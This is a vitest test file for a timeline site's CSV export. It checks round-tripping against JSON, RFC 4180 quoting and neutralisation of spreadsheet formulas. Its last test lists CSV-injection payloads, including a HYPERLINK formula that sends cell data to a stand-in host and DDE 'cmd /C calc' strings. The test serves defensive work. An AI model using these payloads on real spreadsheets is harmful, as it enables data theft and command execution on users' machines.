import { csvParse } from 'd3-dsv';
import { beforeAll, describe, expect, it } from 'vitest';
import {
  CSV_LIST_SEPARATOR,
  fromSpreadsheetSafe,
  toEventsCsv,
  toEventsJson,
  type EventRecord,
} from '../../../src/lib/export/index.ts';
import { loadTimeline } from '../../../src/lib/load/index.ts';
import type { PlaceKind, Stance, Timeline } from '../../../src/lib/timeline-model.ts';

const SITE_URL = 'https://example.org/timeline/';

// Reads events.csv back as a researcher would, rebuilding events.json's records from the documented columns, and
// dropping the documented quote before a cell that would start a formula.
// The kind is not a column: a reader takes it from the gazetteer (places.geojson), as this does from the timeline.
function fromCsv(text: string, timeline: Timeline): EventRecord[] {
  const kinds = new Map(timeline.places.map((place) => [place.id as string, place.kind]));
  const kindOf = (id: string): PlaceKind => kinds.get(id) ?? 'site';
  const list = (cell: string) => (cell === '' ? [] : cell.split(CSV_LIST_SEPARATOR));
  return csvParse(text).map((row) => {
    const cell = (column: string) => {
      const value = row[column];
      if (value === undefined) throw new Error(`no column ${column}`);
      return fromSpreadsheetSafe(value);
    };
    const count = Number(cell('citation_count'));
    const corrections = Number(cell('correction_count'));
    return {
      id: cell('id'),
      url: cell('url'),
      title: cell('title'),
      date: {
        edtf: cell('date_edtf'),
        kind: cell('date_kind') as 'date' | 'interval',
        precision: cell('date_precision') as 'year' | 'month' | 'day',
        start: cell('date_start'),
        end: cell('date_end'),
        firstDay: cell('date_first_day'),
        lastDay: cell('date_last_day'),
        approximate: cell('date_approximate') === 'true',
        uncertain: cell('date_uncertain') === 'true',
        display: cell('date_display'),
      },
      lane: { id: cell('lane_id'), label: cell('lane_label') },
      actors: list(cell('actors')),
      places: list(cell('places')).map((id, i) => {
        const [latitude, longitude] = list(cell('coordinates'))[i]!.split(',').map(Number);
        return {
          id,
          name: list(cell('place_names'))[i]!,
          kind: kindOf(id),
          latitude: latitude!,
          longitude: longitude!,
        };
      }),
      summary: cell('summary'),
      note: cell('note') === '' ? null : cell('note'),
      citations: Array.from({ length: count }, (_, i) => {
        const c = (field: string) => cell(`citation_${i + 1}_${field}`);
        return {
          article: c('article'),
          articleUrl: c('article_url'),
          quote: c('quote'),
          passage: c('passage'),
          stance: c('stance') as Stance,
          claimant: c('claimant') === '' ? null : c('claimant'),
          paragraphId: c('paragraph_id'),
          passageUrl: c('passage_url'),
        };
      }),
      corrections: Array.from({ length: corrections }, (_, i) => {
        const c = (field: string) => cell(`correction_${i + 1}_${field}`);
        return { date: c('date'), text: c('text'), url: c('url') };
      }),
      dateModified: cell('date_modified') === '' ? null : cell('date_modified'),
    };
  });
}

let small: Timeline;
let layoutSite: Timeline;
beforeAll(async () => {
  [small, layoutSite] = await Promise.all([
    loadTimeline('tests/fixtures/small-site'),
    loadTimeline('tests/fixtures/layout-site'),
  ]);
});

describe('toEventsCsv()', () => {
  it('parses back (d3-dsv csvParse) to the same events as events.json, for both fixtures', () => {
    for (const timeline of [small, layoutSite]) {
      expect(fromCsv(toEventsCsv(timeline, { siteUrl: SITE_URL }), timeline)).toEqual(
        toEventsJson(timeline, { siteUrl: SITE_URL }).events,
      );
    }
  });

  it("gives each event's places as gazetteer ids (as `npm run import` reads them), names and lat,lon coordinates", () => {
    const rows = csvParse(toEventsCsv(layoutSite, { siteUrl: SITE_URL }));
    expect(rows.columns.slice(rows.columns.indexOf('places'), rows.columns.indexOf('places') + 3)).toEqual([
      'places',
      'place_names',
      'coordinates',
    ]);
    const several = layoutSite.events.find((event) => event.places.length > 1)!;
    const row = rows.find((r) => r['id'] === several.id)!;
    const place = (id: string) => layoutSite.places.find((p) => p.id === id)!;
    expect(row['places']).toBe(several.places.join('; '));
    expect(row['place_names']).toBe(several.places.map((id) => place(id).name).join('; '));
    expect(row['coordinates']).toBe(
      several.places.map((id) => `${place(id).point.latitude},${place(id).point.longitude}`).join('; '),
    );
  });

  it('writes one row per event and citation columns up to the largest citation count', () => {
    const rows = csvParse(toEventsCsv(small, { siteUrl: SITE_URL }));
    expect(rows).toHaveLength(small.events.length);
    expect(rows.columns.slice(0, 3)).toEqual(['id', 'url', 'title']);
    expect(rows.columns).toContain('citation_2_passage_url');
    expect(rows.columns).not.toContain('citation_3_article');
    expect(rows.find((row) => row['id'] === 'council-vote')?.['citation_2_article']).toBe('');
  });

  it('follows RFC 4180: CRLF between records, quotes doubled inside quoted fields', () => {
    const csv = toEventsCsv(small, { siteUrl: SITE_URL });
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.split('\r\n')[0]).toMatch(/^id,url,title,date_edtf,/);
    // The council vote's quote has straight double quotes: "new".
    expect(csv).toContain('"The town council on Tuesday approved the ""new"" harbour bridge"');
  });

  it('neutralises every cell a spreadsheet would run as a formula with a leading quote, and still parses back', () => {
    const hostile = [
      '=HYPERLINK("https://evil.example/?"&A1,"Click")',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '\t=1+1',
      '\r=1+1',
      'Plain, "quoted" text with = inside',
    ];
    const pick = (i: number) => hostile[i % hostile.length]!;
    // Place names are editor text too; a southern latitude starts its cell with "-".
    const timeline: Timeline = {
      ...small,
      places: small.places.map((place, i) => ({
        ...place,
        name: pick(i + 2),
        point: { latitude: -place.point.latitude, longitude: place.point.longitude },
      })),
      events: small.events.map((event, i) => ({
        ...event,
        title: pick(i),
        actors: [pick(i + 1), 'Council'],
        summary: pick(i + 3),
        citations: event.citations.map((citation, c) => ({ ...citation, claimant: pick(i + c + 4) })),
      })),
    };
    const csv = toEventsCsv(timeline, { siteUrl: SITE_URL });
    const rows = csvParse(csv);
    const cells = rows.flatMap((row) => rows.columns.map((column) => row[column]!));
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(cells).toContain(`'${hostile[0]}`);
    expect(cells).toContain(`'${hostile[4]}`);
    expect(cells).toContain(hostile[6]);
    expect(cells).toContain(`'${hostile[2]}`);
    expect(rows.find((row) => row['id'] === 'council-vote')?.['coordinates']).toBe("'-46.35,13.4");
    expect(fromCsv(csv, timeline)).toEqual(toEventsJson(timeline, { siteUrl: SITE_URL }).events);
  });
});
